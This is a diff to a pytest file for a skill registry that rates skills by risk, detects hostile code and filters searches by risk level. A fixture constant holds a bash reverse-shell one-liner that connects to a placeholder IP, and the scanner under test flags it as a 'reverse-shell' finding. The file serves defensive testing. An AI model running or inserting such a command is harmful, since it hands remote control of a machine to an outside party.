@@ -7,6 +7,7 @@ from pathlib import Path
 
 import pytest
 
+from registry.findings.engine import ENGINE
 from support.servers import RunningServer, new_skill, write_skill
 
 SHELL = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
@@ -32,7 +33,7 @@ def risks(server: RunningServer, **filters: str) -> dict[str, str]:
 
 def test_a_skill_tells_its_findings(server: RunningServer) -> None:
     found = server.api("GET", "/skills/hostile-deploy").json()["data"]["findings"]
-    assert (found["risk"], found["engine"]) == ("high", 1)
+    assert (found["risk"], found["engine"]) == ("high", ENGINE)
     (finding,) = found["findings"]
     assert (finding["rule"], finding["file"], finding["line"]) == ("reverse-shell", "run.sh", 2)
     assert set(finding) == {"kind", "severity", "rule", "file", "line", "message"}
@@ -51,6 +52,13 @@ def test_cards_tell_the_risk_alone(server: RunningServer) -> None:
 def test_a_search_may_ask_for_skills_of_little_risk(server: RunningServer, level: str, count: int) -> None:
     admitted = ["none", "low", "medium", "high"][:count]
     assert sorted(risks(server, max_risk=level).values()) == sorted(admitted)
+
+
+def test_filters_may_stand_in_the_query_string(server: RunningServer) -> None:
+    answer = server.api("GET", "/search?q=deploy+a+service&max_risk=low&installed=true&source=local")
+    assert {hit["skill"]["id"] for hit in answer.json()["data"]["skills"]} == {"quiet-deploy", "low-deploy"}
+    assert server.api("GET", "/search?q=deploy&tags=cloud,aws&scope=acme").json()["data"]["skills"] == []
+    assert server.api("GET", "/search?q=deploy&max_risk=severe").status_code == 400
 
 
 def test_a_level_there_is_not_is_refused(server: RunningServer) -> None:
